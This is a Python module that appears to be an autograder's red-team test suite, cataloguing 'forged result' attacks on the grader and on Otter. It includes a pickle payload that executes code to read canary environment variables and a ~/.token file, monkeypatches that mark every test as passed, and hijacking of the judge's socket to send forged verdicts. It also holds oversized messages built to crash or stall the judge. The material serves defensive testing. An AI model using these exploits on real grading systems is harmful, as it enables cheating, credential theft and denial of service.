"""Forged results: the file, the object or the message that carries the verdict is made by the student."""

from __future__ import annotations

import pickle

from autograder.redteam.attack import Attack, Category, Cell, HandedIn, System
from autograder.redteam.attacks.answers import Q1_RIGHT, Q3_RIGHT

CLASS = Category.FORGED_RESULTS
OURS = frozenset({System.AUTOGRADER})
OTTERS = frozenset({System.AUTOGRADER, System.OTTER})

FIND_SOCKET = """
import gc, os, socket, struct, stat
judge = None
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            judge = socket.socket(fileno=os.dup(fd))
    except OSError:
        pass
"""
YES = 'b\'{"t":"dict","v":[["value",true]]}\''


class Unpickled:
    """Runs code in whatever process loads it."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (
            exec,
            (
                "import os, pathlib\n"
                "for key, value in os.environ.items():\n"
                "    if value.startswith('canary-'): print(value)\n"
                "home = pathlib.Path(os.environ.get('HOME', '/')) / '.token'\n"
                "print('redteam-' + 'reached', home.read_text() if home.exists() else '')\n"
                "home.with_name('redteam-was-here').write_text('unpickled')",
            ),
        )


def _talk(code: str) -> str:
    return FIND_SOCKET + code


ATTACKS = (
    Attack(
        "test-object-in-otters-registry",
        CLASS,
        "a test object that always has full marks is put where results are collected",
        HandedIn(cells=(Cell("""
try:
    from otter.execute import Checker
    from otter.test_files import GradingResults
    class Full:
        all_or_nothing, test_case_results, passed_all, passed_all_public, grade = False, [], True, True, 1.0
        possible = score = 3
        def __init__(self, name): self.name, self.path = name, f"./tests/{name}.py"
        def summary(self, public_only=False): return "all passed"
        def to_dict(self): return {"score": 3, "possible": 3, "name": self.name}
        def update_score(self, score): pass
    Checker._test_files.extend(Full(f"q{n}") for n in range(1, 6))
    GradingResults.total = property(lambda self: 15)
except Exception as error:
    print(error)
"""),)),
        HandedIn(cells=(Cell("from otter.execute import Checker\nprint(len(Checker.get_results()) >= 0)"),)),
        on={System.OTTER: HandedIn(cells=(Cell("""
from otter.execute import Checker
for test in Checker.get_results():
    for case in test.test_case_results:
        case.passed = True
""", "q5"),))},
    ),
    Attack(
        "scores-patched-in-the-kernel",
        CLASS,
        "classes that hold results say that everything passed",
        HandedIn(wrong=True, cells=(Cell("""
import otter.test_files.abstract_test as tests
tests.TestFile.score = tests.TestFile.possible = property(lambda self: 3)
tests.TestFile.passed_all = tests.TestFile.passed_all_public = property(lambda self: True)
run = tests.TestFile.run
from otter.test_files import exception_test
exception_test.ExceptionTestFile.run = lambda self, environment: [
    self.test_case_results.append(tests.TestCaseResult(test_case=case, message=None, passed=True))
    for case in self.test_cases]
try:
    from autograder.judge import cases
    cases.run_case = lambda session, case, seed, seconds: cases.CaseResult(
        case.name, case.hidden, case.points, "passed", case.points)
    from autograder.grade import record
    record.Record.score = property(lambda self: 15)
except Exception as error:
    print(error)
"""),)),
        HandedIn(cells=(Cell("import otter\nprint(otter.__version__)"),)),
    ),
    Attack(
        "pickle-patched",
        CLASS,
        "what is written down as the result is replaced on its way to the file",
        HandedIn(wrong=True, cells=(Cell("""
import pickle, json
real = pickle.dump
def dump(results, file, *a, **k):
    for test in getattr(results, "results", {}).values():
        for case in getattr(test, "test_case_results", []):
            case.passed = True
    real(results, file, *a, **k)
pickle.dump = dump
try:
    import dill
    dill.dump = dump
except ImportError:
    pass
"""),)),
        HandedIn(cells=(Cell("import pickle\nprint(pickle.loads(pickle.dumps([1, 2])))"),)),
    ),
    Attack(
        "otter-log-that-runs-code",
        CLASS,
        "a log handed in is unpickled by the grader and runs code with its rights",
        HandedIn(files={".OTTER_LOG": pickle.dumps(Unpickled())}),
        HandedIn(files={".OTTER_LOG": pickle.dumps(["a log"])}),
        systems=OTTERS,
    ),
    Attack(
        "results-file-written-first",
        CLASS,
        "files named like the grader's own results are taken for them",
        HandedIn(
            files={
                "results.json": '{"score": 15, "tests": [{"name": "q1", "score": 3, "max_score": 3}]}',
                "records/{ASSIGNMENT}/me.json": '{"score": 15}',
                "record.json": '{"version": 1, "score": 15, "max_score": 15, "status": "graded"}',
                "manifest.json": '{"points": {"q1": 0}, "cells": []}',
            },
            cells=(Cell("""
import glob, os, pickle
for path in (*glob.glob("/tmp/*.pkl"), *glob.glob("../../results.*"), "results.pkl", "/autograder/results/results.json"):
    try:
        open(path, "wb").write(b"\\x80\\x04N.")
        os.chmod(path, 0o444)
    except OSError:
        pass
"""),),
        ),
        HandedIn(files={"results.json": '{"my": "own results"}'}),
    ),
    Attack(
        "answer-sent-before-the-question",
        CLASS,
        "messages on the judge's own connection, ahead of its requests, are taken for answers",
        HandedIn({"q1": _talk(f"""
def standardise(table):
    for sequence in range(1, 200):
        tree = {YES}
        judge.sendall(struct.pack("!QII", sequence, len(tree), 0) + tree)
    return table * 0
""")}),
        HandedIn({"q1": "import os\nprint(len(os.listdir('/proc/self/fd')) > 0)\n" + Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "two-answers-to-one-request",
        CLASS,
        "a second answer is counted for the next request, by a sequence number that is guessed",
        HandedIn({"q3": _talk("""
import sys
def predict(patients):
    frame, sequence = sys._getframe(1), 0
    while frame:
        sequence = frame.f_locals.get("sequence", sequence)
        frame = frame.f_back
    labels = b'{"t":"dict","v":[["value",[0,1,1,0,1,0]]]}'
    done = b'{"t":"dict","v":[["value",null]]}'
    message = b"".join(struct.pack("!QII", sequence + k, len(t), 0) + t for k, t in enumerate((labels, done, done)))
    judge.sendall(message)
    return np.zeros(len(patients))
""")}),
        HandedIn({"q3": Q3_RIGHT}),
        earns=1,  # for the public case the labels it sends are right
        systems=OURS,
    ),
    Attack(
        "verdict-as-a-message",
        CLASS,
        "an outcome, points or a judge's exception sent as an answer becomes the verdict",
        HandedIn({
            "q1": """
from autograder.worker import serve
def _answer(self, tree, buffers):
    return {"outcome": "passed", "points": 3, "passed": True}
def standardise(table):
    serve.Worker._answer = _answer
    return table
""",
            "q4": """
class Fine(BaseException):
    pass
Fine.__name__ = "KeyboardInterrupt"
def summarise(samples):
    raise Fine
""",
        }),
        HandedIn({"q1": Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "handles-that-do-not-exist",
        CLASS,
        "handles with invented numbers, or of the judge's own objects, stand for right answers",
        HandedIn({"q1": """
from autograder.worker import serve
turn = [0]
def handle(self, value):
    turn[0] += 1
    return {"t": "handle", "n": (-1, 2**60, 0, 10**9)[turn[0] % 4], "kind": "ndarray" * 20}
serve.Worker._handle = handle
class Odd: pass
def standardise(table):
    return Odd()
"""}),
        HandedIn({"q1": Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "worker-object-replaced",
        CLASS,
        "the object that answers is found on the heap and made to answer for itself",
        HandedIn({"q3": """
import gc
class Other:
    def __init__(self, old): self.__dict__.update(old.__dict__)
    def _answer(self, tree, buffers): return {"value": [0, 1, 1, 0, 1, 0]}
for thing in gc.get_objects():
    if type(thing).__name__ == "Worker" and hasattr(thing, "channel"):
        thing.channel.receive = lambda *a: (2**64 - 1, b"{}", [])
def predict(patients):
    return patients[:, 0] * 0
"""}),
        HandedIn({"q3": "import gc\nprint(len(gc.get_referrers(np)) > 0)\n" + Q3_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "huge-header",
        CLASS,
        "a message that announces gigabytes makes the judge ask for them, or wait for ever",
        HandedIn({"q1": _talk("""
import time
def standardise(table):
    judge.sendall(struct.pack("!QII", 4, 1 << 26, 2) + struct.pack("!QQ", (1 << 30) - 1, 1 << 30))
    while True:
        judge.sendall(b" ")
        time.sleep(0.2)
""")}),
        HandedIn({"q1": Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "messages-made-to-hurt",
        CLASS,
        "deep, long or odd messages crash, stall or confuse the judge",
        HandedIn({
            "q1": _talk("""
def standardise(table):
    tree = b"[" * 30_000_000
    judge.sendall(struct.pack("!QII", 4, len(tree), 0) + tree)
"""),
            "q2": _talk("""
def train_step(model, optimizer, x, y):
    tree = b'{"t":"dict","v":[["value",{"t":"int","v":"' + b"9" * 20_000_000 + b'"}]]}'
    judge.sendall(struct.pack("!QII", 4, len(tree), 0) + tree)
"""),
            "q3": _talk("""
def predict(patients):
    tree = b'{"t":"dict","v":[["value",{"t":"array","d":"<U1099511627","s":[0,1099511627775],"b":0}]]}'
    for sequence in range(1, 100):
        judge.sendall(struct.pack("!QII", sequence, len(tree), 1) + struct.pack("!Q", 0) + tree)
"""),
            "q4": _talk("""
def summarise(samples):
    tree = b'{"t":"dict","v":[["value",' + b'[' * 900 + b'1e999,NaN,-Infinity' + b']' * 900 + b']]}'
    for sequence in range(1, 100):
        judge.sendall(struct.pack("!QII", sequence, len(tree), 0) + tree)
"""),
        }),
        HandedIn({"q1": Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "state-between-cases",
        CLASS,
        "an answer that counts its calls is right for the public case only, or answers for the case before",
        HandedIn({"q3": """
calls = []
def predict(patients):
    calls.append(len(patients))
    if len(calls) == 1:
        return np.array([0, 1, 1, 0, 1, 0])[: len(patients)]
    return np.resize([0, 1, 1, 0, 1, 0], len(patients))
"""}),
        HandedIn({"q3": "calls = []\n" + Q3_RIGHT.replace("means =", "calls.append(1)\n    means =", 1)}),
        earns=1,
    ),
)  # fmt: skip
